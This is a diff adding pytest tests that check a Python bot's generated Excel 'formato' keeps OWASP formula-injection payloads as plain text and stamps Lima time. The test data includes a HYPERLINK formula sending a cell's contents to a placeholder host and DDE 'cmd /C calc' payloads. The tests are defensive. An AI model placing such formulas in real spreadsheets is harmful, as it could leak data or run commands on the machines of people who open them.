@@ -19,6 +19,8 @@ from bot.formato import (
     build_formato,
     formato_filename,
 )
+from tests.bot.test_ticket_entity_name import file_request
+from tests.driver import Driver, MemoryMailer
 
 LIMA = timezone(timedelta(hours=-5))
 RESPONSIBLE = Person(
@@ -225,3 +227,42 @@ def test_created_property_is_the_generation_time() -> None:
 )
 def test_filename(ticket: str | None, ruc: str, expected: str) -> None:
     assert formato_filename(ticket, ruc) == expected
+
+
+# ------------------------------------------------- through the app (issue 16, points 6 and 8)
+OWASP = [
+    '=HYPERLINK("http://x/?d="&A1,"Abrir")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
+
+
+async def test_a_filed_request_formato_is_lima_time_and_has_no_formula(
+    user: Driver, mailer: MemoryMailer
+) -> None:
+    entity, nombres, apellidos, cargo = OWASP
+    await file_request(user, mailer, entity, (nombres, apellidos, cargo))  # 15:00 UTC
+    async with user.app.store.reading() as conn:
+        ((sha,),) = list(
+            await conn.execute_fetchall("SELECT sha256 FROM ticket_files WHERE role = 'formato'")
+        )
+    sheet = openpyxl.load_workbook(io.BytesIO(user.app.files.read(sha)))[SHEET_TITLE]
+    assert find(sheet, LABELS["generated_at"]).value == "02/12/2026 10:00"  # Lima, UTC-5
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert set(OWASP) <= values  # kept literally, as text
+    for payload in OWASP:
+        assert all(c.data_type == "s" for c in cells if c.value == payload)
+
+
+@pytest.mark.parametrize("payload", [*OWASP, "=1+1", "\t=1+1", "\r=1+1"])
+def test_every_owasp_payload_stays_a_string(payload: str) -> None:
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(build_formato(sample(entity_name=payload, ruc=payload)))
+    )
+    cells = [c for row in workbook[SHEET_TITLE].iter_rows() for c in row if c.value is not None]
+    assert [c for c in cells if c.data_type == "f"] == []
+    kept = payload.replace("\r", "\n")  # XML reads a raw carriage return as a line feed
+    assert [c.value for c in cells if c.value == kept] == [kept, kept]
